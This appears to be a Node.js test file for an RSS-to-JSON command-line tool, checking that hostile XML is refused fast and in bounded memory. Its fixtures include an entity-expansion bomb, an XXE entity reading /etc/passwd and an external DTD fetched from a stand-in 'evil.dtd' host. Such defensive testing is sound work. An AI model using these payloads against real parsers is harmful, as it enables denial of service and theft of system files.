// Hostile XML ends fast, in bounded memory, with one clear line: each case runs the real command line in
// a child process, and its wall time and peak memory are printed and held to bounds.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync, openSync, writeSync, closeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { cli } from './cli.mjs';

/**
 * Generous bounds: the limits exist to catch unbounded work, not to time a slow machine. CPU time is the
 * bound, as it hardly depends on what else the machine runs; wall time only guards against a hang.
 * Both include Node's start-up (the baseline case shows it).
 */
const MAX_CPU_MS = 2_000;
const MAX_WALL_MS = 10_000;
const MAX_PEAK_MB = 200;

const dir = mkdtempSync(join(tmpdir(), 'policy-widgets-hostile-'));
after(() => rmSync(dir, { recursive: true, force: true }));

const rss = (channel, doctype = '') =>
  `<?xml version="1.0"?>${doctype}<rss version="2.0"><channel><title>T</title><link>https://example.org/</link>${channel}</channel></rss>`;

const lol = Array.from({ length: 9 }, (_, level) => {
  const name = `lol${level + 1}`;
  const value = level === 0 ? 'lol' : `&lol${level};`.repeat(10);
  return `<!ENTITY ${name} "${value}">`;
}).join('');

const CASES = {
  'billion laughs (nested entities)': rss('<item><title>&lol9;</title><guid>a</guid></item>', `<!DOCTYPE lolz [<!ENTITY lol "lol">${lol}]>`),
  'quadratic blowup (one large entity, many references)': rss(
    `<item><title>${'&a;'.repeat(50_000)}</title><guid>a</guid></item>`,
    `<!DOCTYPE r [<!ENTITY a "${'x'.repeat(900)}">]>`,
  ),
  'external entity (XXE, file:///etc/passwd)': rss('<item><title>&xxe;</title><guid>a</guid></item>', '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
  'external parameter entity (a DTD fetched from a server)': rss('<item><title>t</title><guid>a</guid></item>', '<!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://127.0.0.1:9/evil.dtd"> %dtd;]>'),
  '10,000-deep nesting': rss(`<item><title>t</title><guid>a</guid>${'<x>'.repeat(10_000)}${'</x>'.repeat(10_000)}</item>`),
};

const figures = [];
after(() => {
  console.log(`hostile XML, bounds per run: ${MAX_CPU_MS} ms CPU, ${MAX_PEAK_MB} MB peak RSS (Node's start-up included):`);
  for (const { name, ms, cpuMs, peakMB, line } of figures) {
    console.log(`  ${name}: ${cpuMs.toFixed(0)} ms CPU (${ms.toFixed(0)} ms wall), ${peakMB.toFixed(0)} MB — ${line}`);
  }
});

async function refuse(name, file, pattern) {
  const result = await cli(['convert', file]);
  figures.push({ name, ms: result.ms, cpuMs: result.cpuMs, peakMB: result.peakMB, line: result.lines[0] });
  assert.equal(result.code, 1, `${name}: exit code`);
  assert.equal(result.stdout, '', `${name}: no feed is written`);
  assert.equal(result.lines.length, 1, `${name}: one line on stderr, got:\n${result.stderr}`);
  assert.match(result.lines[0], pattern);
  assert.doesNotMatch(result.stderr, /\n\s+at /, `${name}: no stack trace`);
  assert.doesNotMatch(result.stderr, /root:/, `${name}: nothing of /etc/passwd`);
  assert.ok(result.cpuMs < MAX_CPU_MS, `${name}: ${result.cpuMs.toFixed(0)} ms of CPU, over ${MAX_CPU_MS} ms`);
  assert.ok(result.ms < MAX_WALL_MS, `${name}: ${result.ms.toFixed(0)} ms wall, over ${MAX_WALL_MS} ms`);
  assert.ok(result.peakMB < MAX_PEAK_MB, `${name}: peak RSS ${result.peakMB.toFixed(0)} MB, over ${MAX_PEAK_MB} MB`);
}

for (const [name, xml] of Object.entries(CASES)) {
  test(`${name}: refused with one line, fast, in bounded memory`, async () => {
    const file = join(dir, `${name.replace(/\W+/g, '-')}.xml`);
    writeFileSync(file, xml);
    await refuse(name, file, /^policy-widgets: .*\.xml: not well-formed or unsafe XML: .+/);
  });
}

test('a 50 MB document: refused before parsing, by its size', async () => {
  const file = join(dir, 'huge.xml');
  const fd = openSync(file, 'w');
  writeSync(fd, '<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>');
  const item = `<item><title>${'x'.repeat(1000)}</title><guid>g</guid></item>`;
  for (let written = 0; written < 50 * 1024 * 1024; written += item.length) writeSync(fd, item);
  writeSync(fd, '</channel></rss>');
  closeSync(fd);
  await refuse('50 MB document', file, /^policy-widgets: .*huge\.xml: larger than 20 MB, the limit for one input$/);
});

test('for comparison: a small ordinary feed, start-up and all', async () => {
  const file = join(dir, 'small.xml');
  writeFileSync(file, rss('<item><title>t</title><guid>a</guid></item>'));
  const result = await cli(['convert', file]);
  figures.push({ name: 'small ordinary feed (baseline)', ms: result.ms, cpuMs: result.cpuMs, peakMB: result.peakMB, line: `exit ${result.code}` });
  assert.equal(result.code, 0, result.stderr);
});

test('an ordinary feed with many &amp; and numeric references is not mistaken for an attack', async () => {
  const items = Array.from({ length: 3000 }, (_, i) => `<item><title>Oslo &amp; Viken &#8211; ${i}</title><guid>g${i}</guid></item>`).join('');
  const file = join(dir, 'many-entities.xml');
  writeFileSync(file, rss(items));
  const result = await cli(['convert', file]);
  assert.equal(result.code, 0, result.stderr);
  const feed = JSON.parse(result.stdout);
  assert.equal(feed.items.length, 3000);
  assert.equal(feed.items.find((item) => item.id === 'g7').title, 'Oslo & Viken – 7');
});
